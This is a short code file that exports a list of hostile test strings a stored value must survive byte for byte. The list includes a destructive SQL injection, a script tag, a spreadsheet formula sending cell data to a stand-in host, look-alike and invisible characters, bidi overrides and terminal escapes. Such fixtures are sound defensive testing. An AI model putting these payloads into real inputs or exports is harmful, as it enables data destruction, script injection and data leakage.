/**
 * Hostile strings (security.md) that stored values must survive byte for byte: SQL and markup
 * injection, a spreadsheet formula, look-alike and invisible characters, bidi overrides,
 * combining marks, line and paragraph separators, COPY's own escapes (tab, backslash, CR/LF),
 * terminal escapes, emoji sequences, padding, and the empty string.
 */
export const HOSTILE_STRINGS = [
  "'; DROP TABLE audit_events;--",
  '<script>window.__pwned=1</script>',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  'аdmin',
  'ad\u200Bmin',
  '\u202Eevil',
  'e\u0301',
  'é',
  'line1\r\nline2',
  'tab\there, back\\slash, \\N',
  'a\u2028b',
  '\x1b[31mred',
  '👩‍💻',
  '  padded  ',
  '',
];
